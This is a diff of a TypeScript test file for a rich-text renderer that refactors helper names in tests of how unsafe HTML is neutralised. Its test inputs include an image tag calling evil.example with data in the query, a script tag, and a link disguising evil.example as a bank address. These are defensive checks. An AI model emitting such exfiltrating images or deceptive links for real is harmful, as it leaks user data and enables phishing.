@@ -75,18 +75,21 @@ describe('rendering of benign replies (SPEC section 5)', () => {
   });
 
   it('shows a note in the place of a removed picture, and a message if no content is left', () => {
-    const shown = (html: string) => renderRichText(html, { isHTML: true, words: copy.leftOut }).textContent;
-    expect(shown('<p>a <img src="https://evil.example/?q=datos"></p>')).toBe(
+    const renderedText = (html: string) =>
+      renderRichText(html, { isHTML: true, words: copy.leftOut }).textContent;
+    expect(renderedText('<p>a <img src="https://evil.example/?q=datos"></p>')).toBe(
       'a [Imagen de evil.example: no se carga por seguridad]',
     );
-    expect(shown('<script>x()</script>')).toBe('La respuesta no tiene contenido que se pueda mostrar.');
-    expect(shown('<p> </p>')).toContain('no tiene contenido');
-    expect(shown('<p>a</p>')).toBe('a');
+    expect(renderedText('<script>x()</script>')).toBe(
+      'La respuesta no tiene contenido que se pueda mostrar.',
+    );
+    expect(renderedText('<p> </p>')).toContain('no tiene contenido');
+    expect(renderedText('<p>a</p>')).toBe('a');
   });
 
   it('shows the host of a link whose text names another host', () => {
-    const shown = (html: string) => renderRichText(html, { isHTML: true }).textContent;
-    const to = (text: string) => shown(`<a href="https://evil.example/x">${text}</a>`);
+    const renderedText = (html: string) => renderRichText(html, { isHTML: true }).textContent;
+    const to = (text: string) => renderedText(`<a href="https://evil.example/x">${text}</a>`);
     expect(to('https://banco.example.com')).toBe('https://banco.example.com (evil.example)');
     expect(to('evil.example')).toBe('evil.example');
     expect(to('www.evil.example/x')).toBe('www.evil.example/x');
@@ -109,16 +112,16 @@ describe('rendering of benign replies (SPEC section 5)', () => {
   });
 
   it("keeps Markdown's escapes outside formulas, and amounts of money", () => {
-    const shown = (text: string) => renderRichText(text, { isHTML: false });
-    expect(shown(String.raw`\*no\* 1`).textContent?.trim()).toBe('*no* 1');
-    expect(shown('$5 y **$10**').querySelector('strong')?.textContent).toBe('$10');
-    expect(shown(`${String.raw`\(`.repeat(29_000)}`).textContent?.length).toBeGreaterThan(29_000);
+    const rendered = (text: string) => renderRichText(text, { isHTML: false });
+    expect(rendered(String.raw`\*no\* 1`).textContent?.trim()).toBe('*no* 1');
+    expect(rendered('$5 y **$10**').querySelector('strong')?.textContent).toBe('$10');
+    expect(rendered(`${String.raw`\(`.repeat(29_000)}`).textContent?.length).toBeGreaterThan(29_000);
   });
 
   it.each(['a-', '-', 'a.', 'a_.', '.', 'a-a.b-'])('keeps the long text of a link of "%s"', (part) => {
     const text = part.repeat(95_000);
-    const shown = renderRichText(`<a href="https://evil.example/x">${text}</a>`, { isHTML: true });
-    expect(shown.textContent).toBe(text);
+    const rendered = renderRichText(`<a href="https://evil.example/x">${text}</a>`, { isHTML: true });
+    expect(rendered.textContent).toBe(text);
   });
 
   const oversized: readonly (readonly [name: string, text: string])[] = [
